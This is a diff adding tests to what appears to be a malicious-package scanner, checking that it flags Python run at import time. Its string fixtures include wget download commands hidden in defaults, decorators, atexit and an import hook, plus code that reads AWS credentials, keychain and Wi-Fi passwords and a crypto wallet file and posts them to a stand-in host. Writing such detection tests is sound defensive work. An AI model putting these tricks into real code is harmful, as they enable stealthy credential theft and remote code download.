@@ -269,3 +269,55 @@ test('httpcore pools, trio and anyio sockets, QUIC and DNS backends are outbound
   );
   assert.ok(egress('import socket\ndef go(make, data):\n    s, _ = make()\n    s.sendall(data)\n', 'paramiko/pipe.py'));
 });
+
+test('code Python runs as it defines a function (defaults, annotations, a decorator that calls it) runs on import', () => {
+  const triggerOf = (source: string) =>
+    findings(source).find((f) => f.rule === 'process-network-tool' || f.rule === 'download-execute')?.trigger;
+  const command = 'os.system("wget -q http://192.0.2.20/x")';
+  assert.equal(triggerOf(`import os\ndef f(x=${command}):\n    return x\n`), 'import');
+  assert.equal(triggerOf(`import os\ndef f(x: ${command}):\n    return x\n`), 'import');
+  assert.equal(
+    triggerOf(`import os\ndef run(fn):\n    fn()\n    return fn\n@run\ndef f():\n    ${command}\n`),
+    'import',
+  );
+  assert.equal(triggerOf(`import os, atexit\n@atexit.register\ndef f():\n    ${command}\n`), 'import');
+  // a decorator that returns a wrapper calls the function only when the wrapper is called
+  const wrapper = `import os\ndef deco(fn):\n    def inner(*a):\n        return fn(*a)\n    return inner\n@deco\ndef f():\n    ${command}\n`;
+  assert.equal(triggerOf(wrapper), 'call');
+  // the body of a function with a default still runs when called
+  assert.equal(triggerOf(`import os\ndef f(x=1):\n    ${command}\n`), 'call');
+});
+
+test("an import hook's methods run on import: Python calls the finder on sys.meta_path for every later import", () => {
+  const source = [
+    'import sys, os',
+    'class Finder:',
+    '    def find_spec(self, name, path, target=None):',
+    '        os.system("wget -q http://192.0.2.21/" + name)',
+    'sys.meta_path.insert(0, Finder())',
+    '',
+  ].join('\n');
+  assert.equal(findings(source).find((f) => f.rule === 'process-network-tool')?.trigger, 'import');
+});
+
+test('secrets read through pathlib, a command that dumps saved passwords, or a wallet keypair file reach the sink', () => {
+  const sent = (read: string) =>
+    findings(
+      `import os, pathlib, subprocess, requests\ndef collect():\n    data = ${read}\n    requests.post("https://api.collect.example/u", data=data)\n`,
+    ).find((f) => f.rule === 'exfiltration');
+  assert.match(sent('(pathlib.Path.home() / ".aws" / "credentials").read_text()')?.message ?? '', /AWS credentials/);
+  assert.match(sent('subprocess.check_output(["security", "dump-keychain", "-d"])')?.message ?? '', /saved logins/);
+  assert.match(
+    sent('subprocess.check_output("netsh wlan show profile name=* key=clear", shell=True)')?.message ?? '',
+    /saved logins/,
+  );
+  assert.match(sent('open(os.path.expanduser("~/.config/solana/id.json")).read()')?.message ?? '', /crypto wallets/);
+  for (const read of [
+    '(pathlib.Path.home() / ".aws" / "credentials").read_text()',
+    'subprocess.check_output(["security", "dump-keychain", "-d"])',
+  ])
+    assert.equal(sent(read)?.severity, 'high');
+  // a tool that reads its own settings file, or runs a command that prints nothing secret, sends no secret
+  assert.equal(sent('(pathlib.Path.home() / ".config" / "tool.toml").read_text()'), undefined);
+  assert.equal(sent('subprocess.check_output(["security", "list-keychains"])'), undefined);
+});
